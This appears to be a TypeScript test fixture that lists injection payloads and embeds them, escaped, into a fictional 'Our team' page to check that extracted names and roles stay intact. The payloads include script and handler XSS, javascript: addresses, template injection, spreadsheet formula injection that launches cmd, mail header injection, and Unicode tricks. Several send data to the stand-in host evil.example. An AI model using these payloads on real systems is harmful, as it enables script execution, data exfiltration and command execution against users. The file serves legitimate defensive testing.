/** Texts that would do something if they were ever more than text: in mark-up, addresses, templates, spreadsheets, mails, cards, calendars. */
export const payloads: Record<string, string> = {
  'a script': '<script>hit()</script>',
  'an image with a handler': '<img src=x onerror=hit()>',
  'a drawing with a handler': '<svg/onload=hit()>',
  'a frame with a document': '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  'an end of an attribute': `" onmouseover="hit()" x='`,
  'an end of a comment and a title': '--></title></textarea><script>hit()</script>',
  'a form that sends elsewhere': '<form action=https://evil.example><button>Save</button></form>',
  'a style that fetches': '<style>*{background:url(https://evil.example/)}</style>',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  'mark-up as references': '&lt;script&gt;hit()&lt;/script&gt;',
  'a Markdown link that runs': '[my page](javascript:hit())',
  'a Markdown picture that tells': '![me](https://evil.example/seen.png)',
  'an address that runs': 'javascript:hit()',
  'an address that runs, in disguise': 'jAvA\tscript:hit()',
  'an address with a document': 'data:text/html,<script>hit()</script>',
  'an address of the old kind that runs': 'vbscript:hit',
  'a variable of a template': '{{ aboutMe.email }}{{ constructor.constructor("hit()")() }}',
  'a loop of a template': '{% for i in (1..1000000000) %}x{% endfor %}',
  'a template string': '${hit()}#{hit()}<%= hit() %>',
  'a formula': '=HYPERLINK("https://evil.example/?"&A1,"open")',
  'a formula with plus': '+1+cmd|" /C calc"!A0',
  'a formula with minus': '-2+3+cmd|" /C calc"!A0',
  'a formula with at': '@SUM(1+1)*cmd|" /C calc"!A0',
  'a formula in full width': '＝1+1',
  'a header of a mail': 'Baker\r\nBcc: evil@evil.example',
  'a header of a mail, encoded': 'Baker%0d%0aBcc:evil@evil.example',
  'an encoded word': '=?UTF-8?B?QmNjOiBldmlsQGV2aWwuZXhhbXBsZQ==?=',
  'another contact card': 'Baker\nEND:VCARD\nBEGIN:VCARD\nVERSION:3.0\nFN:Evil\nEND:VCARD',
  'another entry of a calendar': 'Baker\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:https://evil.example/\nEND:VEVENT',
  'control characters': 'Ba\u0000k\u0007e\u001br\u007f',
  'half of a pair': 'Baker \ud83d and \ude00',
  'turned direction': 'Baker \u202egnp.exe\u202c \u2066isolated',
  'signs of no width': 'Ba\u200bk\u200de\u2060r\ufeff',
  'look-alike letters': 'Ваkеr аt Оrсhаrd',
  'letters in towers': `B${'\u0301'.repeat(500)}aker`,
  'a word without end': 'b'.repeat(10_000),
  'the name of what all objects inherit': '__proto__',
  'the name of a maker': 'constructor.prototype.polluted',
};

/** Who stands on every hostile page, as they stand there. */
export const honest = [
  { name: 'Odalys Brennan', role: 'Head of Orchards' },
  { name: 'Piet Vanderhoek', role: 'Cider Maker' },
  { name: 'Yuki Amadi-Sato', role: 'Beekeeper' },
];
export const honestNames = honest.map(({ name }) => name);

/** A text in mark-up or in an attribute, so that the page shows it as it is. */
const shown = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

const card = (name: string, role: string, more = '') => `<div class="card"><h3>${name}</h3><p class="role">${role}</p>${more}</div>`;
const cards = honest.map(({ name, role }) => card(name, role)).join('');
const team = (fourth: string, before = '') => `<h1>Our team</h1>${before}<div class="team">${cards}${fourth}</div>`;
const jsonLd = (person: object) => `<script type="application/ld+json">${JSON.stringify({ '@context': 'https://schema.org', '@type': 'Person', ...person }).replaceAll('<', '\\u003c')}</script>`;

/** Where a page can put such a text about its fourth person. */
export const places: Record<string, (payload: string) => string> = {
  name: (text) => team(card(`Nadia Voss ${shown(text)}`, 'Baker')),
  role: (text) => team(card('Nadia Voss', shown(text))),
  'text about them': (text) => team(card('Nadia Voss', 'Baker', `<p class="about">Nadia bakes and writes about bread. ${shown(text)}</p>`)),
  heading: (text) => team(card('Nadia Voss', 'Baker'), `<h2>${shown(text)}</h2>`),
  'address of a link': (text) => team(card('Nadia Voss', 'Baker', `<a href="${shown(text)}">Website</a><a href="mailto:${shown(text)}">Mail</a>`)),
  'picture and its words': (text) => team(card('Nadia Voss', 'Baker', `<img alt="Nadia Voss ${shown(text)}" title="${shown(text)}" src="${shown(text)}">`)),
  'structured data': (text) => team(card('Nadia Voss', 'Baker'), jsonLd({ name: 'Nadia Voss', jobTitle: text, email: text, url: text, image: text, description: text, [text]: text })),
};
